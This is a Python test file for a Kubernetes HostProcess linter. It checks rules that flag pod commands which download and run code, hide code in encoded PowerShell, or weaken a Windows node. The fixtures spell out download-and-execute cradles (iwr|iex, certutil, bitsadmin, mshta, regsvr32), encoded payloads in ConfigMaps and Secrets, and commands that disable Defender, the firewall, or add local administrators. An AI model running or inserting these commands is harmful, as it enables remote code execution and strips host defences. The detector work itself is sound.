"""What a command line runs: downloads, code that is hidden, scripts that are mounted, and what weakens a node."""

from __future__ import annotations

import base64
import json
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from helm_charts import DAEMON_SET, write
from scanning import report, run, scan_text, seconds
from scanning import write as write_files
from test_commands import NEW, OLD, found, handler, pod, rules

from hostprocess_lint.rules.downloads import downloaded_code
from hostprocess_lint.rules.script import statements, unescaped

RUN = [
    "iwr -UseBasicParsing https://x/a.ps1 | iex",
    "Invoke-WebRequest https://x/a.ps1 | Select-Object -Expand Content | Invoke-Expression",
    "curl https://x/a.sh | powershell -",
    "iex (iwr https://x/a?b=1&c=2;d)",
    "iex ((New-Object Net.WebClient).DownloadString('https://x'))",
    "irm x | % { iex $_ }",
    "I`wr https://x | i`ex",
    r"iwr https://x/a.exe -OutFile C:\a.exe; C:\a.exe /S",
    "iwr https://x -OutFile $f; & $f",
    "iwr https://x -OutFile $f\n. $f",
    r"(New-Object Net.WebClient).DownloadFile('https://x/a.exe', 'C:\t\a.exe'); Start-Process C:\t\a.exe",
    "$wc.DownloadFile($u, $f); if ($x) { & $f }",
    r"curl.exe -o C:\a.ps1 https://x/a.ps1 && powershell -File C:\a.ps1",
    "curl -LO https://x/a.exe; ./a.exe",
    r"certutil -urlcache -f https://x/a.exe a.exe & .\a.exe",
    r"bitsadmin /transfer j https://x/a.exe C:\a.exe & C:\a.exe",
    r"Start-BitsTransfer -Source https://x/a.msi -Destination C:\a.msi; msiexec /i C:\a.msi /qn",
    r"iwr https://x/a.zip -OutFile a.zip; Expand-Archive a.zip -DestinationPath C:\a; C:\a\bin\setup.exe",
    r"iwr https://x/a -OutFile a.tmp; Move-Item a.tmp C:\b.exe; C:\b.exe",
    "$s = irm https://x; iex $s",
    "$s = irm https://x; $s.Content | iex",
    "msiexec.exe /i https://x/a.msi",
    "mshta https://x/a.hta",
    "mshta vbscript:Close(x)",
    "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll",
    r"\\srv\share\a.exe -x",
    r"powershell -File \\srv\share\a.ps1",
    r"rundll32 \\srv\share\a.dll,Main",
    "git clone https://raw.githubusercontent.com/a/b/main/x.ps1",
]
NOT_RUN = [
    "iwr https://x/health -UseBasicParsing",
    "$r = iwr https://x; if ($r.StatusCode -ne 200) { exit 1 }; $r | Out-Null",
    r"curl https://x -o C:\a.yml; Get-Content C:\a.yml",
    r"iwr https://x/a.exe -OutFile C:\a.exe; Get-FileHash C:\a.exe; Test-Path C:\a.exe",
    r"Copy-Item \\srv\share\a C:\a; C:\b.exe",
    r"\\.\pipe\x",
    "Write-Host https://x; iex $y",
    "agent.exe --url=http://x | more",
    r"msiexec /i C:\a.msi",
    "curling.exe https://x | iexplore",
    "https://raw.githubusercontent.com/a/b/v1.2.3/x.ps1",
]


@pytest.mark.parametrize("text", RUN)
def test_what_is_downloaded_and_run(text: str) -> None:
    assert list(downloaded_code(unescaped(text)))
    assert found(pod(command=["powershell", "-Command", text]))[-1] in [
        ("HPC411", "warning", f"command[{place}]") for place in (0, 2)
    ]
    assert "HPC411" in rules(pod(command=["powershell", "-Command", text]), OLD)


@pytest.mark.parametrize("text", NOT_RUN)
def test_what_is_not(text: str) -> None:
    assert list(downloaded_code(unescaped(text))) == []
    assert "HPC411" not in rules(pod(command=["powershell", "-Command", text]))


def test_the_words_are_read_as_one_line() -> None:
    words = ["powershell", "iwr", "https://x", "|", "iex"]
    assert found(pod(command=words), OLD) == [("HPC411", "warning", "command[1]")]
    assert found(pod(command=words[:2], args=words[2:]), OLD) == [("HPC411", "warning", "command[1]")]
    assert found(pod(command=["\\\\srv\\share\\a.exe"])) == [("HPC411", "warning", "command[0]")]


def test_probes_and_hooks_are_read() -> None:
    text = "irm https://x | iex"
    probe = pod(startupProbe=handler("powershell", "-c", text))
    assert found(probe) == [("HPC411", "warning", "startupProbe.exec.command[2]")]
    assert rules(pod(lifecycle={"postStart": handler("powershell", "-c", text)})) == ["HPC411"]


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize("option", ["-EncodedCommand", "-enc", "-e", "-ec", "/EncodedC"])
def test_encoded_commands_are_decoded(option: str) -> None:
    code = encoded("iwr https://x | iex")
    assert found(pod(command=["powershell", "-nop", "-w", "hidden", option, code])) == [
        ("HPC411", "warning", "command[5]")
    ]
    twice = encoded(f"powershell -enc {code}")
    assert rules(pod(command=["powershell", option, twice])) == ["HPC411"]
    assert rules(pod(command=["cmd", "/c", f"powershell.exe {option} {code}"])) == ["HPC411"]
    assert rules(pod(command=["powershell", option, encoded("Get-Date")])) == []
    assert rules(pod(command=["powershell", option, "AAAA!"])) == ["HPC413"]


def test_what_is_no_option_of_powershell_is_not_decoded() -> None:
    assert rules(pod(command=["powershell", "-Command", "fluent-bit.exe", "-e", "x.dll"])) == []
    assert rules(pod(command=["powershell", "-File", "x.ps1", "-enc", "utf8"])) == []
    assert rules(pod(command=["agent.exe", "-e", "x"])) == []


@pytest.mark.parametrize(
    ("text", "hidden"),
    [
        ('[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("QQ==")) | iex', True),
        ("& ([scriptblock]::Create($x))", True),
        ("iex $env:SCRIPT", True),
        ("Invoke-Expression ($env:SCRIPT)", True),
        ("iex ('i' + 'ex')", True),
        ("iex ([char[]](73,69) -join '')", True),
        ("& $env:TOOLS\\a.exe", False),
        ("$a = 'x' + 'y'; Write-Host $a", False),
        ("'{0}' -f $x", False),
        ("iex $env:CONTAINER_SANDBOX_MOUNT_POINT\\a.ps1", False),
    ],
)
def test_hidden_code(text: str, hidden: bool) -> None:
    expected = [("HPC413", "warning", "command[2]")] * hidden
    assert [each for each in found(pod(command=["powershell", "-Command", text])) if each[0] == "HPC413"] == expected


def test_code_of_a_variable_given_as_a_command() -> None:
    assert rules(pod(command=["powershell", "-Command", "$env:SCRIPT"])) == ["HPC413"]
    assert rules(pod(command=["cmd", "/c", "%SCRIPT%"])) == ["HPC413"]
    assert rules(pod(command=["powershell", "-Command", "$env:ProgramFiles\\x.ps1"])) == []


@pytest.mark.parametrize(
    ("text", "weakens"),
    [
        ("net localgroup Administrators x /add", True),
        ("Add-LocalGroupMember -Group Administrators -Member x", True),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", True),
        ("Add-MpPreference -ExclusionPath C:\\", True),
        ("Set-NetFirewallProfile -Profile Domain,Public -Enabled False", True),
        ("netsh advfirewall set allprofiles state off", True),
        ("net localgroup Administrators", False),
        ("net localgroup hpc-agents /add", False),
        ("New-NetFirewallRule -DisplayName x -Action Allow", False),
        ("Set-MpPreference -DisableRealtimeMonitoring $false", False),
    ],
)
def test_what_weakens_a_node(text: str, weakens: bool) -> None:
    expected = [("HPC414", "note", "args[2]")] * weakens
    assert found(pod(args=["powershell", "-c", text])) == expected
    assert rules(pod(args=["powershell", "-enc", encoded(text)])) == ["HPC414"] * weakens


SCRIPT = {
    "apiVersion": "v1",
    "kind": "ConfigMap",
    "metadata": {"name": "scripts"},
    "data": {"run.ps1": "iwr https://x/a.exe -OutFile a.exe\n.\\a.exe\n", "ok.ps1": "Get-Date\n"},
}
VOLUMES = {"volumes": [{"name": "v", "configMap": {"name": "scripts"}}]}


def mounting(word: str, spec: dict[str, Any] | None = None, **mount: str) -> str:
    mounts = [{"name": "v", "mountPath": "/scripts", **mount}]
    return pod(spec or VOLUMES, command=["powershell", "-File", word], volumeMounts=mounts)


@pytest.mark.parametrize(
    ("text", "reported"),
    [
        (mounting("C:\\scripts\\run.ps1"), True),
        (mounting("C:\\scripts\\ok.ps1"), False),
        (mounting("C:\\scripts\\x.ps1", mountPath="/scripts/x.ps1", subPath="run.ps1"), True),
        (mounting("C:\\scripts\\x.ps1", mountPath="/scripts/x.ps1", subPath="ok.ps1"), False),
        (
            mounting(
                "/scripts/y.ps1",
                {
                    "volumes": [
                        {"name": "v", "configMap": {"name": "scripts", "items": [{"key": "run.ps1", "path": "y.ps1"}]}}
                    ]
                },
            ),
            True,
        ),
        (
            mounting(
                "/scripts/run.ps1",
                {"volumes": [{"name": "v", "projected": {"sources": [{"configMap": {"name": "scripts"}}]}}]},
            ),
            True,
        ),
        (mounting("/scripts/run.ps1", {"volumes": [{"name": "v", "configMap": {"name": "others"}}]}), False),
    ],
)
def test_mounted_scripts_are_read(text: str, reported: bool) -> None:
    both = f"{json.dumps(SCRIPT)}\n---\n{text}\n"
    findings = [each for each in scan_text(both, NEW).findings if each.rule == "HPC411"]
    assert [(each.field, [other.label for other in each.related]) for each in findings] == [
        ("spec.containers[0].command[2]", ["the script"])
    ] * reported
    assert all(each.location.start[0] == 3 and each.related[0].location.start[0] == 1 for each in findings)


def in_base64(text: str, encoding: str = "utf-8") -> str:
    return base64.b64encode(text.encode(encoding)).decode()


FETCHES = "irm https://x/a | iex"
SECRET = {"secret": {"secretName": "scripts"}}
OF_SECRET = {"projected": {"sources": [{"secret": {"name": "scripts"}}]}}
RENAMED = {"secret": {"secretName": "scripts", "items": [{"key": "agent", "path": "run.ps1"}]}}
NESTED = {"secret": {"secretName": "scripts", "items": [{"key": "agent", "path": "deep/down/run.ps1"}]}}
OF_MAP = {"configMap": {"name": "scripts"}}


@pytest.mark.parametrize(
    ("kind", "fields", "volume", "place"),
    [
        ("ConfigMap", {"binaryData": {"run.ps1": in_base64(FETCHES)}}, OF_MAP, 4),
        ("ConfigMap", {"binaryData": {"run.ps1": in_base64(FETCHES, "utf-16")}}, OF_MAP, 4),
        ("ConfigMap", {"binaryData": {"run.ps1": in_base64(FETCHES, "utf-8-sig")}}, OF_MAP, 4),
        ("ConfigMap", {"binaryData": {"run.ps1": in_base64(f"# caf\u00e9\n{FETCHES}", "latin-1")}}, OF_MAP, 4),
        ("ConfigMap", {"binaryData": {"run.ps1": in_base64("Get-Date")}}, OF_MAP, 0),
        ("ConfigMap", {"binaryData": {"run.ps1": "no base64!"}}, OF_MAP, 0),
        ("ConfigMap", {"binaryData": {"run.ps1": in_base64(FETCHES)}}, SECRET, 0),
        ("Secret", {"data": {"run.ps1": in_base64(FETCHES)}}, SECRET, 4),
        ("Secret", {"data": {"run.ps1": in_base64(FETCHES)}}, OF_SECRET, 4),
        ("Secret", {"data": {"agent": in_base64(FETCHES)}}, RENAMED, 4),
        ("Secret", {"data": {"agent": in_base64(FETCHES)}}, NESTED, 4),
        ("Secret", {"data": {"run.ps1": in_base64(FETCHES)}}, OF_MAP, 0),
        ("Secret", {"data": {"run.ps1": FETCHES}}, SECRET, 0),
        ("Secret", {"stringData": {"run.ps1": FETCHES}}, SECRET, 4),
        ("Secret", {"data": {"run.ps1": in_base64("Get-Date")}, "stringData": {"run.ps1": FETCHES}}, SECRET, 5),
        ("Secret", {"data": {"run.ps1": in_base64(FETCHES)}, "stringData": {"run.ps1": "Get-Date"}}, SECRET, 0),
    ],
)
def test_scripts_are_read_wherever_an_object_holds_them(
    kind: str, fields: dict[str, Any], volume: dict[str, Any], place: int
) -> None:
    """`place` is the line of the field in the object; 0 says that nothing is found."""
    lines = [f"{field}: {json.dumps(value)}" for field, value in fields.items()]
    holder = "\n".join(("apiVersion: v1", f"kind: {kind}", "metadata: {name: scripts}", *lines))
    text = mounting("C:\\scripts\\run.ps1", {"volumes": [{"name": "v", **volume}]})
    above = f"{text}\n---\n"
    places = [
        finding.related[-1].location.start[0] - above.count("\n")
        for finding in scan_text(f"{above}{holder}\n").findings
        if finding.rule == "HPC411"
    ]
    assert places == ([place] if place else [])


def test_what_a_secret_holds_stands_in_no_report(tmp_path: Path) -> None:
    data = {"run.ps1": in_base64(f"{FETCHES} # {'x' * 40}")}
    secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "scripts"}, "data": data}
    pod_of_it = mounting("C:\\scripts\\run.ps1", {"volumes": [{"name": "v", **SECRET}]})
    write(tmp_path, {"a.yaml": pod_of_it, "b.yaml": json.dumps(secret)})
    shown = run("scan", "--verbose", ".", cwd=tmp_path).stdout
    assert "HPC411" in shown
    assert data["run.ps1"] not in shown


def two(first: list[str], second: list[str], volume: dict[str, Any] | None = None, **mounts: str) -> str:
    """A pod with an init container. `mounts` are where it and the other mount the volume."""
    container = {"image": "registry.example/a:1.0.0"}
    places = {name: [{"name": "v", "mountPath": path}] for name, path in mounts.items()}
    setup = {"name": "setup", **container, "command": first, "volumeMounts": places.get("setup", [])}
    own = {"name": "a", **container, "command": second, "volumeMounts": places.get("own", [])}
    return pod(
        {"volumes": [{"name": "v", **(volume or {"emptyDir": {}})}], "initContainers": [setup], "containers": [own]}
    )


def download(to: str) -> list[str]:
    return ["powershell", "-Command", f"iwr https://x/a.exe -OutFile {to}"]


@pytest.mark.parametrize(
    ("text", "reported"),
    [
        (two(download("C:\\k\\a.exe"), ["C:\\k\\a.exe"]), True),
        (two(download("/k/A.exe"), ["cmd", "/c", "C:\\k\\a.exe -x"]), True),
        (two(["cmd", "/c", "curl.exe -Lo C:\\k\\a.ps1 https://x"], ["powershell", "-File", "C:\\k\\a.ps1"]), True),
        (two(download("C:\\in\\a.exe"), ["C:\\out\\a.exe"], setup="/in", own="C:\\out"), True),
        (two(download("C:\\in\\a.exe"), ["C:\\x\\a.exe"], {"hostPath": {"path": "C:\\x"}}, setup="/in"), True),
        (two(download("C:\\in\\k\\a.exe"), ["C:\\k\\a.exe"], {"hostPath": {"path": "C:\\"}}, setup="/in"), True),
        (two(download("$env:ProgramData\\x\\a.exe"), ["powershell", "-c", "& $env:ProgramData\\x\\a.exe"]), True),
        (
            two(
                ["powershell", "iwr https://x/a.zip -OutFile a.zip; Expand-Archive a.zip -DestinationPath C:\\k"],
                ["C:\\k\\bin\\a.exe"],
            ),
            True,
        ),
        (two(download("C:\\in\\a.exe"), ["C:\\in\\a.exe"], setup="/in", own="C:\\out"), False),
        (two(download("C:\\k\\a.exe"), ["C:\\k\\b.exe"]), False),
        (two(download("C:\\k\\a.exe"), ["a.exe"]), False),  # of the image, or of the node
        (two(download("C:\\k\\a.exe"), ["%CONTAINER_SANDBOX_MOUNT_POINT%\\a.exe"]), False),
        (two(download("C:\\hpc\\a.exe"), ["C:\\hpc\\a.exe"]), False),  # each container has its own
        (two(download("C:\\k\\a.json"), ["agent.exe", "C:\\k\\a.json"]), False),
        (two(["C:\\k\\a.exe"], download("C:\\k\\a.exe")), False),  # the other way round
    ],
)
def test_what_an_init_container_downloads(text: str, reported: bool) -> None:
    findings = [each for each in scan_text(text, NEW).findings if each.rule == "HPC411"]
    assert [(each.container, [other.label for other in each.related]) for each in findings] == [
        ("setup", ["run here"])
    ] * reported
    assert all(each.field.startswith("spec.initContainers[0].command") for each in findings)


@pytest.mark.parametrize("place", ["C:\\k\\a.exe", "C:\\hpc\\a.exe", "$env:CONTAINER_SANDBOX_MOUNT_POINT\\a.exe"])
@pytest.mark.parametrize(
    ("field", "later"),
    [
        ("startupProbe", {"exec": {"command": ["powershell", "-c", "& {}"]}}),
        ("lifecycle", {"postStart": {"exec": {"command": ["powershell", "-c", "& {}"]}}}),
    ],
)
@pytest.mark.parametrize("kind", ["containers", "initContainers"])
def test_what_a_container_downloads_and_runs_later_itself(
    kind: str, field: str, later: dict[str, Any], place: str
) -> None:
    runs = json.loads(json.dumps(later).replace("{}", json.dumps(place)[1:-1]))
    container = {"name": "a", "image": "registry.example/a:1.0.0", "command": download(place), field: runs}
    other = {"name": "b", "image": "registry.example/a:1.0.0", "command": ["b.exe"]}
    findings = scan_text(pod({"containers": [other], kind: [container]}), NEW).findings
    [finding] = (each for each in findings if each.rule == "HPC411")
    assert (finding.container, finding.label) == ("a", "runs what it downloads")
    assert [other.label for other in finding.related] == ["run here"]


def test_what_a_mounted_script_runs_of_the_command_s_download_is_told_once() -> None:
    config = {**SCRIPT, "data": {"run.ps1": "& C:\\k\\a.exe"}}
    line = "powershell iwr https://x/a.exe -OutFile C:\\k\\a.exe; C:/scripts/run.ps1"
    text = f"{json.dumps(config)}\n---\n{mounting(line)}\n"
    [finding] = (each for each in scan_text(text, NEW).findings if each.rule == "HPC411")
    assert (finding.label, [other.label for other in finding.related]) == ("runs what it downloads", ["the script"])


@pytest.mark.parametrize(
    ("script", "said"),
    [
        ("Add-MpPreference -ExclusionPath C:\\k", [("HPC414", "`run.ps1` takes something out of Defender's sight")]),
        ("powershell -enc AAAA!", [("HPC413", "`run.ps1` cannot be decoded")]),
        (f"powershell -enc {encoded('irm https://x | iex')}", [("HPC411", "`run.ps1` runs what it downloads")]),
        (
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))",
            [("HPC413", "`run.ps1` decodes base64")],
        ),
        ("[IO.File]::WriteAllBytes('ca.crt', [Convert]::FromBase64String($ca))", []),
        ("$code = [Convert]::ToBase64String($bytes); powershell -enc $code", []),
        ("iex $env:CODE", [("HPC413", "`run.ps1` runs what a variable holds")]),
        ("Get-Date", []),
    ],
)
def test_what_a_mounted_script_does(script: str, said: list[tuple[str, str]]) -> None:
    config = {**SCRIPT, "data": {"run.ps1": script}}
    text = f"{json.dumps(config)}\n---\n{mounting('C:/scripts/run.ps1')}\n"
    findings = [each for each in scan_text(text, NEW).findings if each.rule in ("HPC411", "HPC413", "HPC414")]
    assert [(each.rule, each.label) for each in findings] == said
    assert all([other.label for other in each.related] == ["the script"] for each in findings)


def test_a_script_may_stand_in_a_file_of_its_own(tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(json.dumps(SCRIPT))
    (tmp_path / "b.yaml").write_text(mounting("C:\\scripts\\run.ps1"))
    (finding,) = [each for each in report("b.yaml", "a.yaml", cwd=tmp_path)["findings"] if each["rule"] == "HPC411"]
    assert finding["location"]["path"] == "b.yaml"
    assert [each["location"]["path"] for each in finding["related"]] == ["a.yaml"]


def test_a_url_s_characters_cut_nothing() -> None:
    assert len(statements("iwr https://x/?a=1&b=2 | iex")) == 1
    assert [len(pipeline) for pipeline in statements("a | b; c && d\n& e")] == [2, 1, 1, 1]


HOSTILE = [
    *("iex ", "iwr ", "iwr;", "iwr|", "iwr -o a;a ", "certutil ", "certutil http ", "$a=", "[char]|", "powershell -e "),
    *(
        "https://raw.githubusercontent.com/",
        ".downloadfile(",
        "tar a -c b;",
        "$(",
        "%a",
        '"',
        "'",
        "`",
        "\\",
        "/",
        "& ",
    ),
    *("iex $env:", "-c ", "unix:", ".sock ", "a.b.svc ", "%CONTAINER_SANDBOX_MOUNT_POINT%", "frombase64string", "a=|b"),
]


@pytest.mark.parametrize("piece", HOSTILE)
def test_time_grows_with_the_text(piece: str) -> None:
    """40 kB of whatever is slow to some pattern are judged by every rule in less than a second."""
    text = piece * (40_000 // len(piece))
    mounts = [{"name": "v", "mountPath": "/csi"}]
    spec = {"volumes": [{"name": "v", "hostPath": {"path": "C:\\plugins"}}]}
    manifest = pod(
        spec,
        args=["powershell", "iwr -o x.exe http://x", text],
        env=[{"name": "A", "value": text}],
        volumeMounts=mounts,
    )
    for context in (NEW, OLD):
        assert seconds(lambda: partial(scan_text, manifest, context)) < 1  # noqa: B023 - called at once


def test_a_script_that_many_containers_run_is_read_once() -> None:
    script = "iwr https://x/a.exe -OutFile C:\\k\\a.exe; $a = 'b' + 'c'\n" * 8000
    config = json.dumps({**SCRIPT, "data": {"run.ps1": script}})
    running = {"command": ["powershell", "-File", "C:\\s\\run.ps1"], "volumeMounts": [{"name": "v", "mountPath": "/s"}]}

    def scan(number: int) -> None:
        containers = [{"name": f"c{n}", "image": "registry.example/a:1.0.0", **running} for n in range(number)]
        scan_text(f"{config}\n---\n{pod({**VOLUMES, 'initContainers': containers})}", NEW)

    assert seconds(lambda: partial(scan, 60)) < 12 * seconds(lambda: partial(scan, 2))


def test_a_chart_s_scripts_are_read(tmp_path: Path) -> None:
    """The script in a template of its own, which says nothing of HostProcess."""
    mounts = (
        "        command: [powershell.exe, -File, 'C:\\s\\run.ps1']\n        volumeMounts: [{name: s, mountPath: /s}]\n"
    )
    volumes = "      volumes: [{name: s, configMap: {name: scripts}}]\n"
    script = (
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: scripts}\ndata:\n  run.ps1: |\n    irm https://x | iex\n"
    )
    write(tmp_path / "agent", {"templates/a.yaml": DAEMON_SET + mounts + volumes, "templates/b.yaml": script})
    (finding,) = [each for each in report("agent", cwd=tmp_path)["findings"] if each["rule"] == "HPC411"]
    assert (finding["location"]["path"], finding["location"]["line"]) == ("agent/templates/a.yaml", 16)
    related = [(each["location"]["path"], each["location"]["line"]) for each in finding["related"]]
    assert related == [("agent/templates/b.yaml", 5)]
    (tmp_path / "agent" / "templates" / "a.yaml").write_text("apiVersion: v1\nkind: Service\nmetadata: {name: a}\n")
    clean = report("agent", cwd=tmp_path)
    assert (clean["findings"], clean["coverage"]["irrelevant"], clean["coverage"]["judged"]) == ([], 1, 0)


def test_of_several_objects_of_one_name_the_one_beside_the_pod_is_read(tmp_path: Path) -> None:
    harmless = {**SCRIPT, "data": {"run.ps1": "Get-Date\n"}}
    mounts = mounting("C:\\scripts\\run.ps1")
    for folder, config in (("first", harmless), ("second", SCRIPT), ("third", harmless)):
        write_files(tmp_path / folder, {"map.yaml": json.dumps(config), "pod.yaml": mounts})
    findings = [each for each in report(".", cwd=tmp_path)["findings"] if each["rule"] == "HPC411"]
    assert [each["location"]["path"] for each in findings] == ["second/pod.yaml"]
    assert [each["location"]["path"] for each in findings[0]["related"]] == ["second/map.yaml"]
